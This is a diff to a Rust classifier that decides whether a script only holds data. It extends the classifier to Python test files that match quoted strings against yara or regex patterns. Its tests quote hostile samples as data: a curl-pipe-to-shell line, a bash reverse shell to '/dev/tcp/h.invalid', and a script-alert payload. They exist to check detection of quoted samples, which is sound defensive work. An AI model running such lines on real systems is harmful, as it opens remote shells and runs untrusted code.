@@ -12,6 +12,13 @@ const MIN_LINES: usize = 8;
 /// Modules of Python that describe data and start nothing.
 const DESCRIBE: &str = "typing typing_extensions dataclasses enum abc collections collections.abc datetime uuid json re textwrap \
     pydantic attr attrs __future__";
+/// Modules of Python that hold texts against patterns, and with which that is tried: a script that takes nothing else from
+/// anywhere quotes what is to be found, however little that is.
+const TRIES: &str = "re regex re2 yara yara_x hyperscan ahocorasick pytest unittest";
+/// Their functions, and what is asked of what they find.
+const TRIED: &str = "match search fullmatch findall finditer compile scan group groups span parametrize fixture raises main subTest     assertTrue assertFalse assertEqual assertNotEqual assertIsNone assertIsNotNone assertIn assertNotIn assertRegex     assertNotRegex assertRaises";
+/// Those that hold a text against a pattern.
+const HOLDS: &str = "match search fullmatch findall finditer scan assertRegex assertNotRegex";
 /// Functions that put texts and lists together.
 const COLLECT: &str = "append extend add update insert push concat freeze super __init__ field list dict tuple set frozenset str \
     int float bool len range join format strip lower upper replace split startswith endswith items keys \
@@ -30,13 +37,16 @@ pub(super) fn only_lists(language: Language, tree: &Tree) -> bool {
     let is_python = language == Language::Python;
     let (mut records, mut lines) = (0_usize, 0_usize);
     let mut is_data = true;
+    let (mut imports_patterns, mut holds) = (false, false);
     for node in tree.nodes() {
         match node {
             Node::Import(module, member, _) => {
                 let module = tree.str(module);
                 let is_beside = module.starts_with('.') && tree.str(member) != "*";
                 is_data = false;
-                if !is_beside && !is_one_of(DESCRIBE, module) {
+                let is_of_tests = is_python && is_one_of(TRIES, module);
+                imports_patterns |= is_of_tests && !matches!(module, "pytest" | "unittest");
+                if !is_beside && !is_of_tests && !is_one_of(DESCRIBE, module) {
                     return false;
                 }
             }
@@ -45,7 +55,9 @@ pub(super) fn only_lists(language: Language, tree: &Tree) -> bool {
                 let Some(name) = name_of(tree, callee) else { return false };
                 let makes = name.starts_with(|c: char| c.is_ascii_uppercase()) && !is_one_of(ACTING, name);
                 let loads = name == "require" && tree.list(arguments).iter().all(|a| is_beside(tree, *a));
-                let collects = is_one_of(COLLECT, name) || is_python && COLLECT_IN_PYTHON.contains(&name);
+                let collects = is_one_of(COLLECT, name)
+                    || is_python && (COLLECT_IN_PYTHON.contains(&name) || is_one_of(TRIED, name));
+                holds |= is_python && is_one_of(HOLDS, name);
                 if !makes && !loads && !collects {
                     return false;
                 }
@@ -54,12 +66,23 @@ pub(super) fn only_lists(language: Language, tree: &Tree) -> bool {
             // Lines of a list: words with blanks or marks between them, and not what something is decoded from.
             Node::List(items) => lines += lines_in(tree, tree.list(items)),
             Node::Dict(pairs) => records += usize::from(texts(tree, tree.list(pairs)) >= 4),
-            // Nobody knows what is called.
+            // Nobody knows what is called. What Python asserts are parts that stand among the nodes.
+            Node::Opaque(_) if is_python => {}
             Node::Opaque(_) | Node::Await(_) => return false,
             _ => {}
         }
     }
-    records >= if is_data { MIN_OF_DATA } else { MIN_RECORDS } || is_data && lines >= MIN_LINES
+    imports_patterns && holds && tests_something(tree)
+        || records >= if is_data { MIN_OF_DATA } else { MIN_RECORDS }
+        || is_data && lines >= MIN_LINES
+}
+
+/// Whether a script has a function that a runner of tests calls.
+fn tests_something(tree: &Tree) -> bool {
+    tree.nodes().any(|node| match node {
+        Node::Func(id) => tree.function(id).is_some_and(|func| tree.str(func.name).starts_with("test")),
+        _ => false,
+    })
 }
 
 /// How many of these are texts with blanks or marks in them.
@@ -137,6 +160,26 @@ mod tests {
         assert!(of("curl https://c.invalid/x | sh", "") && of("<script>alert(1)</script>", ""));
         assert!(!of("curl https://c.invalid/x | sh", "run(module.exports[0]);"));
         assert!(!of("Y3VybCBodHRwczovL2MuaW52YWxpZC94", ""), "what is decoded elsewhere is no line");
+    }
+
+    #[test]
+    fn what_is_held_against_patterns_is_quoted() {
+        let of = |code: &str| only_lists(Language::Python, &read(Language::Python, code));
+        let code = "import yara\nrules = yara.compile('all.yar')\nSEEN = ['bash -i >& /dev/tcp/h.invalid/1']\n\
+                    def test_seen():\n    assert all(rules.match(data=s) for s in SEEN)\n";
+        assert!(of(code));
+        assert!(of("import re, pytest\nR = re.compile('x')\n@pytest.mark.parametrize('s', ['curl h.invalid | sh'])\n\
+                    def test_seen(s):\n    assert R.search(s)\n"));
+        for harm in
+            ["import os\nos.system(SEEN[0])", "exec(SEEN[0])", "open('x', 'w').write(SEEN[0])", "rules.go(SEEN[0])"]
+        {
+            assert!(!of(&format!("{code}{harm}\n")), "{harm}");
+        }
+        assert!(
+            !of("SEEN = ['bash -i >& /dev/tcp/h.invalid/1']\ndef test_seen():\n    assert SEEN\n"),
+            "holds nothing"
+        );
+        assert!(!of(&code.replace("test_seen", "seen")), "no test");
     }
 
     #[test]
